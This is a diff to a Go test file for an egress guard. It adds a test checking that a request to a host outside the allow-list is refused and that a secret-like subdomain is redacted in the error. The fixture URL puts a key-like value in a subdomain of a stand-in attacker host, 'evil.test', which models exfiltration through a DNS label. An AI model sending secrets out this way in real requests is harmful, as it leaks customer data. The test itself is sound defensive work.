@@ -412,6 +412,12 @@ func TestProbeIsBoundByTheList(t *testing.T) {
 	}
 }
 
+func TestRefusalStaysOneWithoutASecretThatStandsInIt(t *testing.T) {
+	a := Do(guarded(t, egress(t, "hooks.example.com"), Network{}), request(t, t.Context(), "https://k3y-of-a-customer.evil.test/"))
+	a.Redact("k3y-of-a-customer")
+	refused(t, a.Failure("post"), "egress: [redacted].evil.test:443 is not in the allow-list", "add it to egress.allow")
+}
+
 // TestProxiesOfTheEnvironmentAreNotAsked has a process of its own, because net/http reads the environment once. The host
 // has a name, because net/http asks no proxy for addresses of this host.
 func TestProxiesOfTheEnvironmentAreNotAsked(t *testing.T) {
